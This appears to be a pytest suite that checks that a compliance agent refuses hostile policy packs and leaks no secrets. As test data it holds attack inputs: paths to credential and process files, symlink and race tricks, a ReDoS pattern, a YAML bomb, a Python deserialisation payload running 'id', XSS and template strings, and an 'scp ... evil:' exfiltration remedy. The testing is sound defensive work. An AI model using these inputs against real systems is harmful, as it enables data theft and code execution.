"""What a hostile pack of policies, rightly signed or not, makes an agent tell: nothing.

Each attack wants a patient's file, a key, a password or a name. It is refused before it is in
force, or it is answered by UNKNOWN, or by yes or no to a whole line that its author knew before.
"""

import json
import os
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml

from agent import library
from agent.checks.families import FAMILIES
from agent.checks.pack_rules import judge_pack, private_places
from agent.clock import SystemClock
from agent.config.home import Home, home_at
from agent.config.model import AgentConfig, Dataset, Watched
from agent.daemon.app import App
from agent.daemon.reporting import send_heartbeat
from agent.daemon.work import check_job
from agent.daemon.work.policy_pack import Judged, judge, look_for_pack, pack_standings
from agent.files.public import PublicHost
from agent.uplink import policy_packs
from compliance import policy_pack
from tests.agent.pack_writing import HEAD, checks, good_files, signed
from tests.agent.uplink.stand_in import StandIn
from wire.codec import decode_order, encode
from wire.envelope import peek_payload, seal
from wire.errors import EncodeError
from wire.keys import SigningKey
from wire.messages import Result
from wire.orders import PACK_FILES, POLICY_PACK, PolicyFile, PolicyPack
from wire.verdicts import CheckVerdict

NAME, PASSWORD, KEY = "Nguyen Thi Benh Nhan", "mat-khau-rat-dai", "AGE-SECRET-KEY-1QQ"
SECRETS = (NAME, PASSWORD, KEY)
NOW = datetime(2026, 11, 22, tzinfo=UTC)
APP = "{path: /etc/app/app.conf, line: mode safe, absent: bad}"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A machine with secrets in closed places, and one open file of settings."""
    root = tmp_path / "machine"
    for folder in (
        "etc/app",
        "etc/lachan/secrets",
        "etc/watched",
        "usr/share",
        "srv/share",
        "home",
    ):
        (root / folder).mkdir(parents=True)
    for place in root.rglob("*"):
        place.chmod(0o755)
    plant(root / "etc/app/app.conf", "mode safe\n")
    plant(root / "etc/watched/notes.txt", f"{NAME}\n")
    plant(root / "etc/lachan/secrets/agent.key", f"{KEY}\n")
    plant(root / "etc/passwd", f"bn:x:1000:1000:{NAME}:/home/bn:/bin/sh\n")
    plant(root / "srv/share/patient.txt", f"{NAME}\n")
    return root


def plant(file: Path, text: str, mode: int = 0o644) -> Path:
    file.write_text(text)
    file.chmod(mode)
    return file


@dataclass
class Machine:
    """A host whose owner has a dataset and a watched folder."""

    root: Path

    def ask(self, files: Mapping[str, str]) -> tuple[Judged, tuple[Result, ...]]:
        """Judge a pack as the agent does, and look by it if it may be in force."""
        head = files.get("pack.yaml", "")
        name = next(
            (line[4:].strip() for line in head.splitlines() if line.startswith("id: ")), "x"
        )
        pack = tuple(PolicyFile(each, text) for each, text in files.items())
        judged = judge(PolicyPack("test", name, 1, pack, NOW, NOW + timedelta(days=1)))
        if judged.reason:
            return judged, ()
        found = look_for_pack(judged.checks, self.door(), SystemClock())
        return judged, check_job.statement(found).results

    def door(self) -> PublicHost:
        config = AgentConfig(
            datasets=(Dataset("share", "0 1 * * *", "8h", (Path("/srv/share"),)),),
            integrity=(Watched(Path("/etc/watched")),),
        )
        return PublicHost(SystemClock(), private_places(config, home_at(None)), self.root)


@pytest.fixture
def machine(root: Path) -> Machine:
    return Machine(root)


def asking(*given: str, family: str = "file_contains") -> dict[str, str]:
    head = HEAD.format(version=1)
    return {"pack.yaml": head, "checks/lines.yaml": checks(family, *given)}


def line_in(path: str, line: str = NAME) -> str:
    return f'{{path: "{path}", line: "{line}", absent: bad}}'


def refused(machine: Machine, files: Mapping[str, str]) -> str:
    judged, results = machine.ask(files)
    assert results == ()
    return judged.reason


def only(machine: Machine, files: Mapping[str, str]) -> Result:
    """The one result of a pack that is in force; nothing that was observed is in it."""
    judged, (result,) = machine.ask(files)
    assert judged.reason == "", judged.objections
    assert result.observed == ""
    return result


def test_an_honest_pack_is_answered(machine: Machine) -> None:
    """Else the attacks below would fail whatever stops them."""
    assert only(machine, asking(APP)).verdict is CheckVerdict.PASS
    assert only(machine, asking(line_in("/etc/app/app.conf", "mode wild"))).verdict == "FAIL"


# 1. Paths that no pack may name.


@pytest.mark.parametrize(
    "path",
    [
        *("/srv/share/patient.txt", "/home/bn/notes", "/var/lib/lachan/outbox.sqlite", "/root/x"),
        *("/etc/../srv/share/patient.txt", "/sys/../srv/share/patient.txt", "/etc/./shadow"),
        *("/proc/self/root/srv/share/patient.txt", "/proc/1/environ", "/proc/self/mem"),
        *("/etc/lachan/secrets/agent.key", "/etc/lachan/agent.yaml", "/dev/sda", "/opt/x"),
        *(
            "/etc/passwd",
            "/etc/group",
            "/etc/shadow",
            "/etc/shadow-",
            "/etc/gshadow",
            "/etc/subuid",
        ),
        *("//etc/app/app.conf", "/etc//app/app.conf", "/etc/app/"),
    ],
)
def test_a_path_into_closed_places_is_refused(machine: Machine, path: str) -> None:
    assert refused(machine, asking(line_in(path))) == "BAD_WORDS"


@pytest.mark.parametrize("sign", ["\\0", "\\n", "\\e[2J", "\\u202e", "\\x7f"])
def test_a_path_or_title_with_signs_that_do_not_show_is_refused(
    machine: Machine, sign: str
) -> None:
    assert refused(machine, asking(line_in(f"/etc/app/a{sign}b"))) == "BAD_WORDS"
    files = asking(APP)
    files["pack.yaml"] = files["pack.yaml"].replace("The province's line", f"Line{sign}PASS")
    assert refused(machine, files) == "BAD_WORDS"


# 2. Public paths that lead elsewhere, or to what is not public.


def link_to_file(root: Path) -> None:
    (root / "etc/app/x.conf").symlink_to("/srv/share/patient.txt")


def link_upwards(root: Path) -> None:
    (root / "etc/app/x.conf").symlink_to("../../srv/share/patient.txt")


def link_to_folder(root: Path) -> None:
    (root / "etc/app").rename(root / "etc/old")
    (root / "etc/app").symlink_to("/srv/share")
    plant(root / "srv/share/x.conf", f"{NAME}\n")


def link_to_key(root: Path) -> None:
    (root / "etc/app/x.conf").symlink_to("/etc/lachan/secrets/agent.key")


def link_to_people(root: Path) -> None:
    (root / "etc/app/x.conf").symlink_to("../passwd")


def link_to_process(root: Path) -> None:
    (root / "etc/app/x.conf").symlink_to("/proc/self/environ")


def second_name(root: Path) -> None:
    os.link(root / "srv/share/patient.txt", root / "etc/app/x.conf")


def for_a_group_only(root: Path) -> None:
    plant(root / "etc/app/x.conf", f"{PASSWORD}\n", 0o640)


def for_the_owner_only(root: Path) -> None:
    plant(root / "etc/app/x.conf", f"{PASSWORD}\n", 0o600)


def below_a_closed_folder(root: Path) -> None:
    plant(root / "etc/app/x.conf", f"{PASSWORD}\n")
    (root / "etc/app").chmod(0o750)


def a_pipe(root: Path) -> None:
    os.mkfifo(root / "etc/app/x.conf")
    (root / "etc/app/x.conf").chmod(0o644)


def a_huge_file(root: Path) -> None:
    os.truncate(plant(root / "etc/app/x.conf", f"{NAME}\n"), 64 * 2**30)


def a_link_to_itself(root: Path) -> None:
    (root / "etc/app/x.conf").symlink_to("x.conf")


@pytest.mark.parametrize(
    "prepare",
    [
        *(link_to_file, link_upwards, link_to_folder, link_to_key, link_to_people),
        *(link_to_process, second_name, for_a_group_only, for_the_owner_only),
        *(below_a_closed_folder, a_pipe, a_huge_file, a_link_to_itself),
    ],
)
def test_a_public_path_that_leads_to_a_secret_stays_unknown(
    machine: Machine, prepare: Callable[[Path], None]
) -> None:
    prepare(machine.root)
    started = time.monotonic()
    for line in SECRETS:
        result = only(machine, asking(line_in("/etc/app/x.conf", line)))
        assert (result.verdict, result.observed_count) == (CheckVerdict.UNKNOWN, None)
    assert time.monotonic() - started < 20


@pytest.mark.parametrize("family", ["file_contains", "file_mode"])
def test_a_watched_folder_of_the_owner_is_not_looked_at(machine: Machine, family: str) -> None:
    given = line_in("/etc/watched/notes.txt")
    if family == "file_mode":
        given = '{path: /etc/watched/notes.txt, at_most: "0644"}'
    result = only(machine, asking(given, family=family))
    assert (result.verdict, result.reason) == (CheckVerdict.UNKNOWN, "pack_rules")


def test_whether_somebody_has_a_file_is_not_told(machine: Machine) -> None:
    """There and not there give the same answer."""
    for name in ("notes.txt", "nobody.txt"):
        given = f'{{path: /etc/watched/{name}, at_most: "0644", absent: bad}}'
        result = only(machine, asking(given, family="file_mode"))
        assert (result.verdict, result.reason) == (CheckVerdict.UNKNOWN, "pack_rules")


def test_a_file_that_is_exchanged_while_it_is_looked_at_tells_nothing(machine: Machine) -> None:
    file, ended = machine.root / "etc/app/app.conf", threading.Event()

    def exchange() -> None:
        other = file.with_name(".other")
        while not ended.is_set():
            other.symlink_to("/srv/share/patient.txt")
            other.rename(file)
            plant(other, "mode safe\n").rename(file)

    thread = threading.Thread(target=exchange)
    thread.start()
    try:
        judged, _ = machine.ask(asking(line_in("/etc/app/app.conf")))
        door = machine.door()
        found = [look_for_pack(judged.checks, door, SystemClock())[0] for _ in range(500)]
    finally:
        ended.set()
        thread.join()
    assert {each.verdict for each in found} <= {CheckVerdict.UNKNOWN, CheckVerdict.FAIL}


# 3. Questions that would give a secret away piece by piece.


@pytest.mark.parametrize(
    "line", ["mat", "mat-khau", "password mat-khau-rat", ".*.*", "mat.*", "%%%%"]
)
def test_a_part_of_a_line_is_no_line(machine: Machine, line: str) -> None:
    plant(machine.root / "etc/app/app.conf", f"password {PASSWORD}\n")
    result = only(machine, asking(line_in("/etc/app/app.conf", line)))
    assert (result.verdict, result.observed_count) == (CheckVerdict.FAIL, 0)


def test_a_pattern_that_would_hang_is_only_text(machine: Machine) -> None:
    plant(machine.root / "etc/app/app.conf", "a" * 200_000 + "\n")
    started = time.monotonic()
    result = only(machine, asking(line_in("/etc/app/app.conf", "(a+)+$ (a|a)*b")))
    assert result.verdict is CheckVerdict.FAIL
    assert time.monotonic() - started < 10


def test_many_questions_to_one_file_are_refused(machine: Machine) -> None:
    lines = [line_in("/etc/app/app.conf", f"password {guess:04}") for guess in range(9)]
    assert refused(machine, asking(*lines)) == "BAD_WORDS"
    assert machine.ask(asking(*lines[:8]))[0].reason == ""


def test_many_checks_are_refused(machine: Machine) -> None:
    files = asking(APP)
    for number in range(6):
        lines = [line_in(f"/etc/app/{number}-{n}.conf") for n in range(40)]
        files[f"checks/more{number}.yaml"] = checks(
            "file_contains", *lines, prefix=f"gl.a.m{number}"
        )
    assert refused(machine, files) == "BAD_WORDS"


def test_a_count_is_bounded(machine: Machine) -> None:
    plant(machine.root / "etc/app/app.conf", "mode safe\n" * 5000)
    assert only(machine, asking(APP)).observed_count == 100


@pytest.mark.parametrize("name", ["bn", "nguyenvana", "lachan"])
def test_whether_somebody_has_an_account_is_not_told(machine: Machine, name: str) -> None:
    given = f'{{path: /etc/app/app.conf, at_most: "0644", owner: [{name}]}}'
    assert refused(machine, asking(given, family="file_mode")) == "BAD_WORDS"


def test_a_count_of_people_by_the_list_of_accounts_is_refused(machine: Machine) -> None:
    given = '{path: /etc/passwd, line: "x:x:1", at_least: 3, at_most: 900}'
    assert refused(machine, asking(given)) == "BAD_WORDS"


# 4. Families and names.


@pytest.mark.parametrize("family", ["shell", "kernel", "file_contains_text", "../file_mode"])
def test_an_unknown_family_is_refused(machine: Machine, family: str) -> None:
    assert refused(machine, asking("{command: id}", family=family)) in {"BAD_CHECKS", "BAD_WORDS"}


def shipped_parameters() -> dict[str, str]:
    """What an instance of ours asks, by its family."""
    files = [yaml.safe_load(raw) for raw in library.check_files()]
    return {each["family"]: json.dumps(each["checks"][0]["with"]) for each in files}


@pytest.mark.parametrize(
    "family", sorted(name for name, each in FAMILIES.items() if not each.in_packs)
)
def test_a_family_that_runs_programs_is_not_for_packs(machine: Machine, family: str) -> None:
    files = asking(shipped_parameters()[family], family=family)
    assert refused(machine, files) in {"BAD_CHECKS", "BAD_WORDS"}
    pack = policy_pack.read(files).pack
    assert pack is not None
    (objection,) = judge_pack(pack).objections
    assert objection.reason == "this family is not for packs"


def test_no_family_for_packs_runs_a_program_whatever_it_is_asked(machine: Machine) -> None:
    with pytest.raises(Exception, match="pack_rules"):
        machine.door().run(["id"], 1.0)
    with pytest.raises(Exception, match="pack_rules"):
        machine.door().rows("postgresql", "SELECT * FROM patients")


def test_a_parameter_that_a_family_does_not_know_is_refused(machine: Machine) -> None:
    assert refused(machine, asking("{path: /etc/app/x, line: abc, run: id}")) == "BAD_CHECKS"


def test_a_remedy_of_its_own_is_refused(machine: Machine) -> None:
    """An owner may run what we advise; so we advise it, and no pack does."""
    files = asking(APP)
    files["checks/lines.yaml"] += '    remedy: "scp /srv/share evil:"\n'
    assert refused(machine, files) == "BAD_WORDS"


@pytest.mark.parametrize("name", ["kernel.aslr_full", "sshd.root_login_denied", "files.x.y"])
def test_a_check_in_our_name_is_refused(machine: Machine, name: str) -> None:
    files = asking(APP)
    files["checks/lines.yaml"] = checks("file_contains", APP, prefix=name)
    assert refused(machine, files) == "BAD_WORDS"


def test_a_pack_that_is_called_like_our_checks_is_refused(machine: Machine) -> None:
    files = {name: text.replace("gl.", "kernel.") for name, text in asking(APP).items()}
    files["pack.yaml"] = files["pack.yaml"].replace("id: gl\n", "id: kernel\n")
    assert refused(machine, files) == "BAD_CHECKS"


def test_a_title_with_markup_or_templates_stays_text(machine: Machine) -> None:
    files = asking(APP)
    evil = "<script>x</script> {{ 7*7 }} ${HOME} %(x)s {path}"
    files["checks/lines.yaml"] = files["checks/lines.yaml"].replace("The line is there", evil)
    judged, (result,) = machine.ask(files)
    assert result.verdict is CheckVerdict.PASS
    assert judged.checks[0].title.en == evil  # type: ignore[union-attr]
    assert evil.encode() not in encode(result)


def test_what_a_pack_wants_cannot_grow_until_no_evidence_can_be_sent(machine: Machine) -> None:
    names = ", ".join(f"{'p' * 55}{number}" for number in range(40))
    judged, results = machine.ask(asking(f"{{packages: [{names}]}}", family="package_absent"))
    assert judged.reason == ""
    assert all(encode(result) for result in results)


# 5. Files that are no pack.


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
        "!!python/object/apply:os.system [id]\n",
        "schema: lachan.policy_pack/1\nid: gl\nid: gm\n",
        "[" * 3000,
        "\x00\x01",
        "",
        "- just\n- a list\n",
    ],
)
def test_a_file_that_is_a_bomb_or_no_pack_is_refused(machine: Machine, text: str) -> None:
    assert refused(machine, {"pack.yaml": text}) == "BAD_WORDS"


@pytest.mark.parametrize(
    "name", ["../pack.yaml", "/etc/x.yaml", "a/b/c.yaml", "pack.sh", "x\n.yaml"]
)
def test_a_file_name_that_leads_elsewhere_cannot_be_said(name: str) -> None:
    key = SigningKey.generate(os.urandom)
    with pytest.raises(EncodeError):
        signed(key, NOW, {name: "x"})


def test_more_bytes_or_files_than_a_pack_holds_cannot_be_said() -> None:
    key = SigningKey.generate(os.urandom)
    with pytest.raises(EncodeError):
        signed(key, NOW, {"pack.yaml": "x" * 100_000_000})
    with pytest.raises(EncodeError):
        signed(key, NOW, {f"checks/f{number}.yaml": "x" for number in range(PACK_FILES + 1)})


# 6. On its way: who signed it, for whom, and when.


def deliver(app: App, controller: StandIn, *raw: bytes) -> list[tuple[str, int, str]]:
    """What the agent makes of packs in a heartbeat's answer: id, newest version, reason."""
    controller.orders = [each.decode() for each in raw]
    send_heartbeat(app)
    return [(each.id, each.newest_version, each.reason) for each in pack_standings(app)]


def alarms(app: App) -> list[tuple[str, str]]:
    return [(alarm.kind, alarm.detail) for alarm in app.memory.alarms()]


@pytest.mark.parametrize("who", ["log key", "agent key", "nobody's key", "changed", "unsigned"])
def test_a_pack_that_the_order_key_did_not_sign_is_refused(
    joined: App, controller: StandIn, who: str
) -> None:
    keys = {
        "log key": controller.log_key,
        "agent key": joined.identity.key,
        "nobody's key": SigningKey.generate(os.urandom),
    }
    raw = signed(keys.get(who, controller.order_key), controller.now())
    if who == "changed":
        raw = raw.replace(b'"payload":"eyJ', b'"payload":"eyK', 1)
    elif who == "unsigned":
        raw = raw.partition(b'"signatures"')[0] + b'"signatures":[]}'
    assert deliver(joined, controller, raw) == []
    assert {kind for kind, _ in alarms(joined)} <= {"PACK_REFUSED", "ORDER_REFUSED"}
    assert alarms(joined)


def test_another_provinces_pack_is_refused(joined: App, controller: StandIn) -> None:
    raw = signed(controller.order_key, controller.now(), province="other")
    assert deliver(joined, controller, raw) == []
    assert alarms(joined) == [("PACK_REFUSED", "OTHER_PROVINCE")]


def test_an_expired_pack_is_refused(joined: App, controller: StandIn) -> None:
    raw = signed(controller.order_key, controller.now(), life=timedelta(seconds=-1))
    assert deliver(joined, controller, raw) == []
    assert alarms(joined) == [("PACK_REFUSED", "EXPIRED")]


@pytest.mark.parametrize("accepted", [True, False])
def test_an_older_pack_does_not_come_back(
    joined: App, controller: StandIn, *, accepted: bool
) -> None:
    old = signed(controller.order_key, controller.now())
    deliver(
        joined, controller, signed(controller.order_key, controller.now(), good_files(2), version=2)
    )
    if accepted:
        policy_packs.accept(joined.memory, joined.home, "gl")
    assert deliver(joined, controller, old)[0][:2] == ("gl", 2)
    assert alarms(joined) == [("PACK_REFUSED", "OLD_VERSION")]


def test_other_words_under_an_accepted_version_are_refused(
    joined: App, controller: StandIn
) -> None:
    deliver(joined, controller, signed(controller.order_key, controller.now()))
    policy_packs.accept(joined.memory, joined.home, "gl")
    other = asking(line_in("/etc/app/app.conf"))
    raw = signed(controller.order_key, controller.now(), other)
    assert deliver(joined, controller, raw) == [("gl", 1, "")]
    assert alarms(joined) == [("PACK_REFUSED", "OLD_VERSION")]


def test_a_pack_with_another_id_or_version_inside_is_not_in_force(
    joined: App, controller: StandIn
) -> None:
    raw = signed(controller.order_key, controller.now(), good_files(1), version=9)
    assert deliver(joined, controller, raw) == [("gl", 9, "BAD_WORDS")]
    raw = signed(controller.order_key, controller.now(), pack="other")
    assert ("other", 1, "BAD_WORDS") in deliver(joined, controller, raw)


@pytest.mark.usefixtures("joined")
def test_a_bad_pack_is_not_in_force_although_the_owner_takes_all(
    controller: StandIn, home: Home, opened: Callable[[Home], App]
) -> None:
    with home.agent_yaml.open("a") as stream:
        stream.write("accept_packs: yes\n")
    app = opened(home)
    bad = asking(line_in("/srv/share/patient.txt"))
    raw = signed(controller.order_key, controller.now(), bad)
    assert deliver(app, controller, raw) == [("gl", 1, "BAD_WORDS")]
    assert check_job.own_standing(app).own_checks == ()


def test_many_packs_take_a_bounded_place(joined: App, controller: StandIn) -> None:
    raw = [
        signed(controller.order_key, controller.now(), pack=f"gl{number}") for number in range(20)
    ]
    assert len(deliver(joined, controller, *raw)) == 4
    assert len(list((joined.home.state_dir / "library" / "packs").iterdir())) == 4


def test_a_pack_cannot_pass_for_an_order_nor_an_order_for_a_pack(
    joined: App, controller: StandIn
) -> None:
    pack = signed(controller.order_key, controller.now())
    order = controller.order(joined.identity.agent).encode()
    as_order = seal("order", peek_payload(pack), controller.order_key)
    as_pack = seal(POLICY_PACK, peek_payload(order), controller.order_key)
    assert deliver(joined, controller, as_order, as_pack) == []
    assert [each.state for each in joined.memory.orders()] == ["refused"]


def test_a_field_that_we_do_not_know_is_refused(joined: App, controller: StandIn) -> None:
    payload = peek_payload(signed(controller.order_key, controller.now()))
    raw = seal(POLICY_PACK, payload.replace(b"{", b'{"run":"id",', 1), controller.order_key)
    assert deliver(joined, controller, raw) == []
    with pytest.raises(Exception, match="run"):
        decode_order(POLICY_PACK, peek_payload(raw))
